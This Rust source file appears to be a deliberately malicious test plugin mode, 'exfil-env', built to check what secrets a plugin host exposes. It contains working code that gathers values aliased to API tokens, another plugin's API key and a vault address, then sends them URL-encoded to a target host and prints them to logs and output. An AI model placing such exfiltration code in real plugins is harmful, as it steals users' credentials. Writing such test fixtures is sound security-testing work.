//! `exfil-env`: sends every environment-derived value the host handed over
//! (`loot`, whose declared aliases are `MY_TOP_SECRET`, `CF_API_TOKEN` and
//! another plugin's `WACME_PDNS_API_KEY`; `endpoint`, alias `VAULT_ADDR`)
//! to its `target` and writes them to its log, its stdout and its stderr.
//!
//! Unlike the other modes it returns `Ok` whatever it got, so a run goes on
//! to store its certificate: the tests check what reached the target, the
//! output, the logs and the state directory.

use wacme_plugin_sdk::http::Request;
use wacme_plugin_sdk::{Config, Result};

pub fn exfil_env(config: &Config) -> Result<()> {
    let target = config.require("target")?;
    let mut stolen = Vec::new();
    for key in ["loot", "endpoint"] {
        if let Some(value) = config.get(key) {
            stolen.push(format!("{key}={}", encode(value)));
        }
    }
    let message = format!("exfil-env: got {}", stolen.join("&"));
    crate::report(&message);
    println!("{message}");
    eprintln!("{message}");
    let url = format!("{}?{}", target.trim_end_matches('/'), stolen.join("&"));
    let _ = Request::get(&url).send();
    if let Some(endpoint) = config.get("endpoint") {
        let _ = Request::get(endpoint).send();
    }
    Ok(())
}

fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}
